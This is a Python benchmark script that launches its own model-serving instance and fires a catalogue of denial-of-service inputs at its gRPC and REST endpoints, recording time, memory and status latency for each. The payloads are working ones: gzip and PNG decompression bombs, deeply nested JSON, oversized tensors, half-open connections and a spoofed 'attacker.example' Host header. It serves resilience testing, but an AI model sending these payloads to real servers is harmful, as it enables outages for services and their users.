"""What does a request cost that was made to cost a server far more than its sender?

    python -m benchmarks.serving.attacks [--model workspace/serving/denoiser] [--scale 1]

Prints for each attack the seconds until it was answered, the memory that the server took for it
and kept afterwards, how long another client waited for the model's status meanwhile, and the
answer. `--scale` makes them smaller, for a server that they could bring down.
"""

from __future__ import annotations

import argparse
import dataclasses
import functools
import gzip
import multiprocessing
import pathlib
import socket
import struct
import sys
import tempfile
import threading
import time
import zlib
from collections.abc import Callable
from typing import Any

import grpc
import httpx
import numpy as np
import psutil

from benchmarks.serving import h2load, subject
from components.base.errors import DenoiseError
from serving.protocol.dtypes import DataType
from serving.protocol.wire import field, varint

NAME = "denoiser"
PATH = f"/v1/models/{NAME}"
_SECONDS = 300
_PIXELS = int(np.prod(subject.SHAPE))


@dataclasses.dataclass(frozen=True)
class Server:
    """Addresses of the attacked server."""

    grpc: str
    """host:port"""
    rest: str
    """http://host:port"""


Attack = Callable[[Server], str]
"""Sends one and returns what was answered."""


def _rest(path: str, make: Callable[[], bytes], **headers: str) -> Attack:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    body = functools.cache(make)

    def send(server: Server) -> str:
        content = body()
        try:
            answer = httpx.post(
                server.rest + path, content=content, headers=named, timeout=_SECONDS
            )
        except httpx.HTTPError as error:
            return type(error).__name__
        return f"{answer.status_code} {answer.text[:100]}"

    return send


def _rpc(make: Callable[[], bytes], compression: grpc.Compression | None = None) -> Attack:
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    message = functools.cache(make)

    def send(server: Server) -> str:
        content = message()
        with grpc.insecure_channel(server.grpc, options, compression) as channel:
            try:
                channel.unary_unary(h2load.PREDICT)(content, timeout=_SECONDS)
            except grpc.RpcError as error:
                return f"{error.code().name} {error.details()[:100]}"
        return "OK"

    return send


def tensor(dtype: DataType, shape: tuple[int, ...], *values: bytes) -> bytes:
    """A serialised TensorProto (dtype 1, tensor_shape 2) with some more fields."""
    sizes = [field(2, b"\x08" + varint(size)) for size in shape]
    return b"\x08" + varint(dtype) + field(2, *sizes) + b"".join(values)


def predict(signature: str, **inputs: bytes) -> bytes:
    """A serialised PredictRequest (model_spec 1, inputs 2) of serialised TensorProtos."""
    spec = field(1, NAME.encode()) + field(3, signature.encode())
    entries = [field(2, field(1, alias.encode()), field(2, t)) for alias, t in inputs.items()]
    return field(1, spec) + b"".join(entries)


def _one_float(*shape: int) -> bytes:
    return tensor(DataType.FLOAT, shape, field(5, np.float32(0.5).tobytes()))


def _nested(depth: int) -> bytes:
    return b'{"instances":' + b"[" * depth + b"1" + b"]" * depth + b"}"


def _half_open(number: int) -> Attack:
    """Connections that send a part of a head, or of a body, and no more."""
    head = f"POST {PATH}:predict HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99\r\n".encode()

    def send(server: Server) -> str:
        host, port = server.rest.rpartition("/")[2].split(":")
        connections = []
        refused = 0
        for part in (b"", head, head + b"\r\n{") * (number // 3 + 1):
            try:
                connection = socket.create_connection((host, int(port)), timeout=5)
                connection.sendall(part)
                connections.append(connection)
            except OSError:
                refused += 1
        time.sleep(1)
        for connection in connections:
            connection.close()
        return f"{len(connections)} opened, {refused} refused"

    return send


def _gzip_of_spaces(size: int) -> bytes:
    """Gzipped spaces, in members that a reader unpacks one after the other."""
    member = min(size, 10 * 2**20)
    return gzip.compress(b" " * member) * max(size // member, 1)


def _png_of_zeros(side: int) -> bytes:
    """Black, of one bit a pixel: a thousandth of what it takes as pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checked = kind + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    rows = zlib.compress(bytes((1 + (side + 7) // 8) * side), 9)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    parts = (chunk(b"IHDR", head), chunk(b"IDAT", rows), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def attacks(scale: float) -> dict[str, Attack]:
    """All of them by name, of a size that is a part of what was found to do harm. What they send
    is made when it is first sent."""

    def part(number: int) -> int:
        return max(int(number * scale), 1)

    row = b"[" + b",".join([b"0"] * _PIXELS) + b"]"
    example = b'{"image":' + row + b"}"

    def rows() -> bytes:
        head = b'{"signature_name":"predict_pixels","x":true,"instances":['
        return head + b",".join([row] * part(18_000)) + b",[1]]}"

    def fewer_rows() -> bytes:
        head = b'{"signature_name":"predict_pixels","x":true,"instances":['
        return head + b",".join([row] * part(9_990)) + b",[1]]}"

    def one_value(dtype: DataType, size: int, value: bytes) -> bytes:
        return predict("predict_encoded", image_bytes=tensor(dtype, (size,), value))

    def images(number: int) -> Callable[[], bytes]:
        return lambda: predict("serving_default", image=_one_float(number, *subject.SHAPE))

    path = f"{PATH}:predict"
    text = field(8, b"x")
    return {
        "ragged JSON rows": _rest(path, rows),
        "ragged JSON rows, as many as are taken": _rest(path, fewer_rows),
        "JSON of empty lists": _rest(
            path, lambda: b'{"instances":[' + b"[]," * part(10 * 2**20) + b"1]}"
        ),
        "classify without such a signature": _rest(
            f"{PATH}:classify",
            lambda: b'{"examples":[' + b",".join([example] * part(18_000)) + b"]}",
        ),
        "gzip of spaces": _rest(
            path, lambda: _gzip_of_spaces(part(1000 * 2**20)), Content_Encoding="gzip"
        ),
        "gRPC gzip bomb": _rpc(lambda: bytes(part(100 * 2**20)), grpc.Compression.Gzip),
        "string tensor of one value": _rpc(lambda: one_value(DataType.STRING, part(2**25), text)),
        "unknown aliases of one value": _rpc(
            lambda: predict(
                "serving_default", **{f"a{i}": _one_float(part(2**26)) for i in range(8)}
            )
        ),
        "images of one value": _rpc(images(part(20_000))),
        "images of one value, as many as are taken": _rpc(images(part(10_000))),
        "flood of empty strings": _rpc(
            lambda: one_value(DataType.STRING, 1, b"\x42\x00" * part(12 * 2**20))
        ),
        "images of 121 million pixels": _rpc(
            lambda: predict(
                "predict_encoded",
                image_bytes=tensor(
                    DataType.STRING, (10,), field(8, _png_of_zeros(part(11_000))) * 10
                ),
            )
        ),
        "a wrong shape of 256 MB": _rpc(
            lambda: predict("serving_default", image=_one_float(part(2**26)))
        ),
        "half-open connections": _half_open(part(600)),
        "version of 5,000 digits": _rest(f"{PATH}/versions/{'9' * 5000}:predict", lambda: b"{}"),
        "34 nested lists": _rest(path, lambda: _nested(34)),
        "990 nested lists": _rest(path, lambda: _nested(990)),
        "integer of 5,000 digits": _rest(path, lambda: b'{"instances":[' + b"9" * 5000 + b"]}"),
        "lone surrogate": _rest(path, lambda: b'{"signature_name":"\\ud800","instances":["a"]}'),
        "unknown Content-Encoding": _rest(path, lambda: b"{}", Content_Encoding="br"),
        "tf.Example of ff ff": _rpc(
            lambda: predict(
                "predict_examples",
                examples=tensor(DataType.STRING, (1,), field(8, b"\xff\xff")),
            )
        ),
        "no image": _rpc(
            lambda: predict("serving_default", image=tensor(DataType.FLOAT, (0, *subject.SHAPE)))
        ),
        "a name of its own": _rest(path, lambda: b"{}", Host="attacker.example"),
    }


@dataclasses.dataclass(frozen=True)
class Cost:
    """The harm an attack did."""

    seconds: float
    peak_mib: float
    kept_mib: float
    status_wait_seconds: float
    answer: str


def memory_mib(process: psutil.Process) -> float:
    """Resident memory of a process and of those that it started."""
    total = 0
    for one in (process, *process.children(recursive=True)):
        try:
            total += one.memory_info().rss
        except psutil.NoSuchProcess:
            continue
    return total / 2**20


def _watch_status(url: str, longest: Any) -> None:
    """Writes how long a request for the model's status took at most; in a process of its own."""
    with httpx.Client(timeout=_SECONDS) as client:
        while True:
            start = time.perf_counter()
            client.get(url)
            longest.value = max(longest.value, time.perf_counter() - start)
            time.sleep(0.02)


def measure(model: pathlib.Path | None, scale: float) -> dict[str, Cost]:
    """One attack after the other on a server of its own."""
    costs = {}
    with tempfile.TemporaryDirectory() as folder:
        path = subject.newest(model, pathlib.Path(folder))
        with subject.server(path.parent) as (grpc_url, rest_url, pid):
            server = Server(grpc_url.removeprefix("http://"), rest_url)
            process = psutil.Process(pid)
            context = multiprocessing.get_context("spawn")
            longest = context.Value("d", 0.0)
            watcher = context.Process(
                target=_watch_status, args=(rest_url + PATH, longest), daemon=True
            )
            watcher.start()
            for name, send in attacks(scale).items():
                costs[name] = _measure_one(send, server, process, longest)
            watcher.terminate()
            watcher.join()
    return costs


def _measure_one(send: Attack, server: Server, process: psutil.Process, longest: Any) -> Cost:
    before = peak = memory_mib(process)
    done = threading.Event()

    def watch() -> None:
        nonlocal peak
        while not done.wait(0.02):
            peak = max(peak, memory_mib(process))

    watcher = threading.Thread(target=watch)
    watcher.start()
    longest.value = 0.0
    start = time.perf_counter()
    answer = send(server)
    seconds = time.perf_counter() - start
    time.sleep(0.5)
    done.set()
    watcher.join()
    kept = memory_mib(process) - before
    return Cost(seconds, peak - before, kept, longest.value, answer)


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawTextHelpFormatter
    )
    parser.add_argument("--model", type=pathlib.Path, help="a SavedModel or a folder of versions")
    parser.add_argument("--scale", type=float, default=1.0)
    arguments = parser.parse_args()
    try:
        costs = measure(arguments.model, arguments.scale)
    except DenoiseError as error:
        print(error, file=sys.stderr)
        return error.exit_status
    print(f"{'attack':36} {'s':>7} {'peak MiB':>9} {'kept MiB':>9} {'status s':>9}  answer")
    for name, cost in costs.items():
        print(
            f"{name:36} {cost.seconds:7.2f} {cost.peak_mib:9.0f} {cost.kept_mib:9.0f} "
            f"{cost.status_wait_seconds:9.2f}  {cost.answer}"
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
